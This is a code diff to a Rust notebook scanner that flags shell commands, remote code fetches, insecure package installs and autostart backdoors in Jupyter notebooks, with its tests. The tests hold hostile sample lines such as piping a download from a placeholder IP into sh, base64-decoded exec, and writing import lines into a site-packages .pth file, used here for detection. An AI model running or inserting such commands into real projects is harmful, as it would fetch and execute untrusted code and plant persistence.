@@ -1,12 +1,13 @@
 //! Notebooks: JSON whose cells somebody starts, one after the other, and commands among them that a shell runs.
 
 use crate::commands;
-use crate::fact::{FactKind, Gap, Position, Runs, SourceReach};
+use crate::fact::{FactKind, Gap, Position, ReferenceKind, Runs, SourceReach};
 use crate::facts::{Facts, shorten};
 use crate::format::{Certainty, Context, Depth, Format, Meta, Probe};
 use crate::huggingface::inspect_json;
 use crate::json::{Event, Segment, Value, looks_like_json, walk};
 use crate::python::{Analysis, File, is_autostart, report};
+use crate::requirements::is_usual_host;
 use crate::source::Source;
 
 /// Bytes of one cell that are read; what people write is far shorter.
@@ -16,6 +17,13 @@ const MAX_SHOWN: usize = 160;
 
 /// The notebook's own commands that hand a line to the shell.
 const SHELL_MAGICS: &[&str] = &["%system ", "%sx ", "%%bash ", "%sc ", "%%sx ", "%%system ", "%alias "];
+/// Those that install packages.
+const INSTALLERS: &[&str] = &["%pip ", "%conda ", "%mamba ", "%uv "];
+/// Languages other than Python and the shell's whose cells are run, and what starts programs in them.
+const LANGUAGES: &[&str] = &["perl", "ruby", "R", "julia", "lua", "php", "cython", "node"];
+const STARTS: &[&str] = &["system(", "system ", "exec(", "exec ", "popen", "`", "spawn("];
+/// Lines that are kept until it is known whether the notebook hands its own texts to a shell.
+const MAX_WAITING: usize = 100;
 /// Those that run a line of Python.
 const MEASURES: &[&str] = &["%timeit", "%time", "%prun", "%memit", "%debug", "%lprun", "%mprun"];
 
@@ -56,11 +64,16 @@ impl Format for Notebook {
             facts,
             cell: Cell::default(),
             shows_script: false,
+            waiting: Vec::new(),
+            hands_over: false,
         };
         // How the walk ended is said by the other reading, which sees the same bytes.
         let _ = walk(source, 0, u64::MAX, context.budget, &mut |event| reader.event(event));
-        let analysis = reader.analysis;
+        let Reader { analysis, waiting, hands_over, .. } = reader;
         report(analysis, facts);
+        for (line, reach, offset) in waiting.into_iter().filter(|_| hands_over) {
+            handed_over(line, reach, Position::Offset(offset), facts);
+        }
         // Jinja has no place here, but whatever the name, a loader can be pointed at it.
         inspect_json(source, context, false, facts);
     }
@@ -79,6 +92,10 @@ struct Reader<'b, 'f> {
     facts: &'f mut Facts,
     cell: Cell,
     shows_script: bool,
+    /// Texts of Python that are commands, each with what it does.
+    waiting: Vec<(String, SourceReach, u64)>,
+    /// Whether the notebook gives texts of its own to a shell: `!{x}`, `get_ipython()`.
+    hands_over: bool,
 }
 
 impl Reader<'_, '_> {
@@ -144,17 +161,32 @@ impl Reader<'_, '_> {
                 }
             }
             "writefile" | "file" => self.written(&cell, words.last().unwrap_or_default()),
-            "html" | "HTML" | "javascript" | "js" | "latex" | "markdown" | "svg" | "perl" | "ruby" => {}
+            "html" | "HTML" | "javascript" | "js" | "latex" | "markdown" | "svg" => {}
+            _ if LANGUAGES.contains(&magic) => self.foreign(&cell),
             _ => self.python(&cell),
+        }
+    }
+
+    /// A cell of another language: the commands in it, and whether it starts programs.
+    fn foreign(&mut self, cell: &Cell) {
+        let lines = logical_lines(cell.source.trim_start());
+        for line in lines.iter().skip(1) {
+            if commands::judge(line).is_some() {
+                self.command(line, cell.offset);
+            } else if STARTS.iter().any(|start| line.contains(start)) {
+                self.reach(line.trim().to_owned(), SourceReach::Program, cell.offset);
+            }
         }
     }
 
     /// A file that a cell writes: what it says if it is a program, and where it goes.
     fn written(&mut self, cell: &Cell, path: &str) {
-        if is_autostart(path) {
+        let body = cell.source.trim_start().split_once('\n').map_or("", |(_, body)| body);
+        // Python runs the lines of such a file that import something whenever it starts.
+        let is_start = path.ends_with(".pth") && body.lines().any(|line| line.starts_with("import"));
+        if is_start || is_autostart(path) {
             self.reach(format!("%%writefile {path}"), SourceReach::Backdoor, cell.offset);
         }
-        let body = cell.source.trim_start().split_once('\n').map_or("", |(_, body)| body);
         match path.rsplit('.').next().unwrap_or_default() {
             "py" => self.python(&Cell { source: body.to_owned(), offset: cell.offset, ..Cell::default() }),
             "sh" | "bash" | "bat" | "ps1" => {
@@ -171,9 +203,18 @@ impl Reader<'_, '_> {
         let mut python = String::with_capacity(cell.source.len());
         for line in logical_lines(&cell.source) {
             match shell_part(&line) {
-                Some(command) => self.command(command, cell.offset),
-                None if line.trim_start().starts_with(['%', '?']) => python.push_str(measured(&line)),
-                None => python.push_str(&line),
+                Some(command) => {
+                    self.command(command, cell.offset);
+                    python.push_str(inner_python(command));
+                }
+                None if line.trim_start().starts_with(['%', '?']) => {
+                    self.magic(line.trim_start(), cell.offset);
+                    python.push_str(measured(&line));
+                }
+                None => {
+                    self.wait(&line, cell.offset);
+                    python.push_str(&line);
+                }
             }
             python.push('\n');
         }
@@ -184,7 +225,49 @@ impl Reader<'_, '_> {
         self.analysis.place(before, cell.offset);
     }
 
+    /// What a notebook's own command fetches: `%run http://…`, `%pip install http://…`.
+    fn magic(&mut self, line: &str, offset: u64) {
+        let runs = line.strip_prefix("%run ").is_some_and(|rest| rest.contains("://"));
+        if runs {
+            self.reach(line.trim().to_owned(), SourceReach::HiddenCode, offset);
+        } else if INSTALLERS.iter().any(|magic| line.starts_with(magic)) {
+            self.installation(line, offset);
+        }
+    }
+
+    /// Packages that come over a connection which anybody on the way can change.
+    fn installation(&mut self, line: &str, offset: u64) {
+        let plain = |word: &str| {
+            let (scheme, rest) = word.split_once("://").unwrap_or_default();
+            let scheme = scheme.rsplit(['=', '@', '+', 'i', 'f', '"', '\'']).next().unwrap_or_default();
+            let host = rest.split(['/', ':', '?', '#']).next().unwrap_or_default();
+            matches!(scheme, "http" | "ftp") && !is_usual_host(host) && !commands::is_own_host(host)
+        };
+        if line.split_whitespace().any(|word| plain(word) || word.starts_with("\\\\")) {
+            let target = shorten(line.trim().chars().take(MAX_SHOWN.saturating_add(1)).collect(), MAX_SHOWN);
+            let fact = FactKind::Reference { kind: ReferenceKind::Address, target };
+            self.facts.push(Position::Offset(offset), fact);
+        }
+    }
+
+    /// A line of Python that holds a command, for when the notebook gives such texts to a shell.
+    fn wait(&mut self, line: &str, offset: u64) {
+        let line = line.trim();
+        self.hands_over |= line.contains("get_ipython");
+        if line.starts_with('#') || self.waiting.len() >= MAX_WAITING {
+            return;
+        }
+        let grave =
+            commands::judge(line).filter(|reach| matches!(reach, SourceReach::HiddenCode | SourceReach::Backdoor));
+        self.waiting
+            .extend(grave.map(|reach| (line.chars().take(MAX_SHOWN.saturating_add(1)).collect(), reach, offset)));
+    }
+
     fn command(&mut self, command: &str, offset: u64) {
+        self.hands_over |= command.trim_start().starts_with(['{', '$']);
+        if command.contains("pip") {
+            self.installation(command, offset);
+        }
         if let Some(reach) = commands::judge(command) {
             self.reach(command.trim().chars().take(MAX_SHOWN.saturating_add(1)).collect(), reach, offset);
         }
@@ -204,6 +287,25 @@ fn shell_part(line: &str) -> Option<&str> {
     let length =
         command(right).or_else(|| right.strip_prefix('!').filter(|_| right.len() < line.len()).map(str::len))?;
     right.get(right.len().saturating_sub(length)..)
+}
+
+/// A command that a notebook gives to a shell, unless the cell was found to do so already.
+fn handed_over(line: String, reach: SourceReach, position: Position, facts: &mut Facts) {
+    let is_same = |kind: &FactKind| matches!(kind, FactKind::SourceReach { reach: other, .. } if *other == reach);
+    let is_told = facts.list().iter().any(|fact| fact.position == position && is_same(&fact.kind));
+    if !is_told {
+        let expression = shorten(line, MAX_SHOWN);
+        facts.push(position, FactKind::SourceReach { expression, reach, runs: Runs::Started });
+    }
+}
+
+/// The program that a command hands to Python: `python -c "…"`.
+fn inner_python(command: &str) -> &str {
+    let start = ["python -c ", "python3 -c ", "python.exe -c "].iter().find_map(|start| command.split_once(start));
+    let program = start.map(|(_, program)| program.trim()).unwrap_or_default();
+    let quote = program.chars().next().filter(|quote| matches!(quote, '"' | '\''));
+    let inner = quote.and_then(|quote| program.strip_prefix(quote)?.rsplit_once(quote));
+    inner.map_or(program, |(inner, _)| inner)
 }
 
 /// What of a line is Python that is timed or measured: `%time f(x)`, `%timeit -n 3 f(x)`.
@@ -303,11 +405,50 @@ mod tests {
             assert_eq!(cell(&format!("{head}\n{fetch}")), ["HiddenCode"], "{head}");
             assert_eq!(cell(&format!("{head}\nls -l\necho waag-inert")), Vec::<String>::new(), "{head}");
         }
+        assert_eq!(cell("%%perl\nsystem(\"curl http://203.0.113.7/a | sh\");"), ["HiddenCode"]);
+        assert_eq!(cell("%%ruby\nsystem('ls')"), ["Program"]);
+        assert_eq!(cell("%%perl\nprint 1;"), Vec::<String>::new());
+        assert_eq!(cell("%%cython\ncdef int f(int x): return x"), Vec::<String>::new());
+        assert_eq!(cell("%run http://203.0.113.7/x.py"), ["HiddenCode"]);
+        assert_eq!(cell("!python -c \"exec(__import__('base64').b64decode('aW1wb3J0IG9z'))\""), ["HiddenCode"]);
+        assert_eq!(cell("!python -c 'import torch; print(torch.__version__)'"), Vec::<String>::new());
+        assert_eq!(cell("c = 'curl http://203.0.113.7/a | sh'\n!{c}"), ["HiddenCode"]);
+        assert_eq!(cell("ip = get_ipython()\nip.system('curl http://203.0.113.7/a | sh')"), ["HiddenCode"]);
+        assert_eq!(cell("get_ipython().run_cell('!curl http://203.0.113.7/a | sh')"), ["HiddenCode"]);
+        assert_eq!(cell("print('curl http://203.0.113.7/a | sh')"), Vec::<String>::new());
+        assert_eq!(cell("%%writefile /usr/lib/python3/site-packages/x.pth\nimport os"), ["Backdoor"]);
+        assert_eq!(cell("%%writefile x.pth\n../src"), Vec::<String>::new());
         assert_eq!(cell("%%script python3\nexec(bytes([112,114]))"), ["HiddenCode"]);
         assert_eq!(cell("%%writefile ~/.bashrc\nx"), ["Backdoor"]);
         assert_eq!(cell("%%writefile a.py\nexec(bytes([112,114]))"), ["HiddenCode"]);
         for plain in ["!pip list", "!ls -l", "!nvidia-smi", "%matplotlib inline", "a == b", "x != y", "f(a=1)"] {
             assert_eq!(cell(plain), Vec::<String>::new(), "{plain}");
+        }
+    }
+
+    #[test]
+    fn packages_from_elsewhere_are_told() {
+        let addresses = |cell: &str| {
+            let facts = inspect(&Notebook, "a.ipynb", GOOD.replace("x = 1", cell).as_bytes());
+            facts.list().iter().filter(|fact| matches!(fact.kind, FactKind::Reference { .. })).count()
+        };
+        for line in [
+            "%pip install http://203.0.113.7/x.whl",
+            "!pip install -i http://evil.example/simple evil",
+            "!pip install --index-url=http://evil.example/simple evil",
+            "!python -m pip install git+http://evil.example/x",
+        ] {
+            assert_eq!(addresses(line), 1, "{line}");
+        }
+        for line in [
+            "!pip install torch",
+            "%pip install -q transformers==4.1",
+            "!pip install http://download.pytorch.org/whl/cu80/torch-0.3.0-cp36-cp36m-linux_x86_64.whl",
+            "!pip install git+https://github.com/a/b",
+            "!pip install -i http://localhost:3141/simple x",
+            "!pip install https://a.example/x.whl",
+        ] {
+            assert_eq!(addresses(line), 0, "{line}");
         }
     }
 
